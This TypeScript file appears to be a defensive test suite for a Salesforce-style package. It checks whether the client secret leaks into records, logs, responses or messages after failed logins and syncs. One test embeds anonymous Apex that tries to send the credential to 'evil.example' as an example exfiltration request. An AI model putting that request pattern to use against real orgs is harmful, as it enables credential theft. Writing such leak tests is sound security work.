import { administrator, localUserId } from '../../org/index.ts';
import { demoCredentials } from '../../sandbox/index.ts';
import type { Threat } from './attack.ts';
import type { Victim } from './victim.ts';

const userId = localUserId(administrator.username);

/** Everything that the org keeps in records that Apex and the API can read. */
async function recordTexts({ product: { org } }: Victim): Promise<string[]> {
  const texts: string[] = [];
  for (const { fullName } of org.project.components('CustomObject')) {
    const object = org.schema.object(fullName);
    if (object === undefined) continue;
    const soql = `SELECT FIELDS(ALL) FROM ${fullName} LIMIT 200`;
    const { records } = await org.query(userId, { soql });
    texts.push(...records.map(({ values }) => JSON.stringify([...values])));
  }
  return texts;
}

/** Lets the package log in, sync, fail, and tell of it, so that secrets have every chance to get out. */
async function provoke(victim: Victim): Promise<void> {
  const admin = await victim.as('Clazar Admin');
  const { control } = victim.product.sandbox;
  control.expireTokens();
  control.addFault({ kind: 'status', status: 401, path: '/authenticate/' });
  control.addFault({ kind: 'malformedJson', path: '/buyers/' });
  for (const isFull of [true, false]) {
    await admin.send('POST', '/services/local/apex/SyncController.start', { isFull });
    await victim.product.org.settled();
  }
  await admin.send('POST', '/services/local/apex/SupportBundleController.read', {
    hasContents: true
  });
  await admin.send('POST', '/services/local/apex/SyncController.runs', {});
}

const secrets = [demoCredentials.clientSecret];

function places(victim: Victim, records: readonly string[]): Record<string, readonly string[]> {
  const requests = victim.product.sandbox.control.requests();
  return {
    'a record': records,
    'the log': victim.log,
    'an answer': victim.answers,
    "the sandbox's log of requests": requests.map((each) => JSON.stringify(each)),
    'a message': victim.product.org.messages().map((each) => JSON.stringify(each))
  };
}

export const leakedSecrets: Threat = {
  name: 'Secrets that leak',
  attacks: [
    {
      what: "looks for Clazar's client secret in records, logs, answers and messages after logins and syncs that fail",
      attempt: async (victim) => {
        await provoke(victim);
        const found = places(victim, await recordTexts(victim));
        return Object.entries(found).flatMap(([place, texts]) =>
          texts
            .filter((text) => secrets.some((secret) => text.includes(secret)))
            .map((text) => `${place}: ${text.slice(0, 200)}`)
        );
      }
    },
    {
      what: 'reads the secret from Apex',
      attempt: async ({ product: { org } }) => {
        const apex = `
          HttpRequest request = new HttpRequest();
          request.setBody('{!$Credential.Clazar.client_secret}');
          Assert.isFalse(request.getBody().contains('${demoCredentials.clientSecret}'));
          Assert.areEqual('{!$Credential.Clazar.client_secret}', request.getBody());`;
        const { success, exceptionMessage } = await org.executeAnonymous(userId, apex);
        return success ? [] : [exceptionMessage ?? 'the Apex did not compile'];
      }
    },
    {
      what: 'sends the secret to a site of its own',
      attempt: async ({ product: { org } }) => {
        const apex = `
          HttpRequest request = new HttpRequest();
          request.setEndpoint('https://evil.example/{!$Credential.Clazar.client_secret}');
          request.setMethod('GET');
          new Http().send(request);`;
        const { success } = await org.executeAnonymous(userId, apex);
        return success ? ['the request left'] : [];
      }
    }
  ]
};
